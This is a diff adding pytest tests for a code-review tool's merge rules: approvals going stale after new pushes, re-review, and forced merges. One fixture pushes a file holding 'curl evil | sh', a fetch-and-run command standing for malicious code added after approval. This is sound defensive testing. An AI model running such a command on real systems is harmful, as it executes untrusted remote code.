@@ -12,7 +12,7 @@ import pytest
 from ennio.errors import Conflict, Refused, Unreachable
 from ennio.forge import PullRow
 from ennio.plugins.scm.local.landing import ATTEMPTS
-from ennio.pulls import MergeMethod, PullState, ReviewState
+from ennio.pulls import MergeMethod, Opinion, PullState, ReviewState
 from tests.plugins.scm.hub import Hub, git, seen_pull, watch
 
 
@@ -149,6 +149,57 @@ def test_a_required_review_is_awaited(hub: Hub) -> None:
         forge.merge(pull.number, head)
     forge.review(pull.number, "ada", ReviewState.APPROVED, "")
     forge.merge(pull.number, head)
+
+
+def test_a_new_head_makes_an_approval_stale_and_the_next_look_makes_it_good_again(hub: Hub) -> None:
+    approved = hub.push("fix", {"a.txt": "a\n"})
+    forge = hub.forge(review_required=True)
+    number = forge.open("fix", "main", "t", "").number
+    assert forge.review(number, "ada", ReviewState.APPROVED, "").review is ReviewState.APPROVED
+    head = hub.push("fix", {"unseen.sh": "curl evil | sh\n"})
+    pull = seen_pull(forge, watch("fix"))
+    assert (pull.review, pull.approved_head, pull.stale) == (ReviewState.REQUIRED, False, (Opinion("ada", ReviewState.APPROVED, approved),))
+    with pytest.raises(Refused, match=f"approving review of {head[:7]}"):
+        forge.merge(number, head)
+    with pytest.raises(Conflict, match="look at it again"):
+        forge.review(number, "ada", ReviewState.APPROVED, "", head=approved)
+    assert forge.review(number, "ada", ReviewState.APPROVED, "", head=head).review is ReviewState.APPROVED
+    assert forge.merge(number, head).commit == hub.head()
+
+
+def test_a_stale_approval_waits_for_another_look_also_where_none_was_required(hub: Hub) -> None:
+    hub.push("fix", {"a.txt": "a\n"})
+    forge = hub.forge()
+    number = forge.open("fix", "main", "t", "").number
+    forge.review(number, "ada", ReviewState.APPROVED, "")
+    hub.push("fix", {"b.txt": "b\n"})
+    assert seen_pull(forge, watch("fix")).review is ReviewState.REQUIRED
+    counting = hub.forge(dismiss_stale=False)
+    pull = seen_pull(counting, watch("fix"))
+    assert (pull.review, pull.approved_head) == (ReviewState.APPROVED, False)
+
+
+def test_a_push_back_to_the_approved_head_makes_its_approval_good_again(hub: Hub) -> None:
+    head = hub.push("fix", {"a.txt": "a\n"})
+    forge = hub.forge()
+    number = forge.open("fix", "main", "t", "").number
+    forge.review(number, "ada", ReviewState.APPROVED, "")
+    hub.push("fix", {"b.txt": "b\n"})
+    assert forge.look(number).review is ReviewState.REQUIRED
+    git(hub.work, "push", "-q", "--force", "origin", f"{head}:refs/heads/fix")
+    assert forge.look(number).review is ReviewState.APPROVED
+
+
+def test_a_persons_force_stands_above_the_required_review_and_nothing_else(hub: Hub) -> None:
+    head = hub.push("fix", {"a.txt": "a\n"})
+    forge = hub.forge(review_required=True)
+    number = forge.open("fix", "main", "t", "", draft=True).number
+    with pytest.raises(Refused, match="draft"):
+        forge.merge(number, head, force=True)
+    forge.ready(number)
+    with pytest.raises(Conflict, match="expected was 0000"):
+        forge.merge(number, "0" * 40, force=True)
+    assert forge.merge(number, head, force=True).commit == hub.head()
 
 
 def test_a_dismissed_review_counts_no_longer_and_a_resolved_comment_needs_no_answer(hub: Hub) -> None:
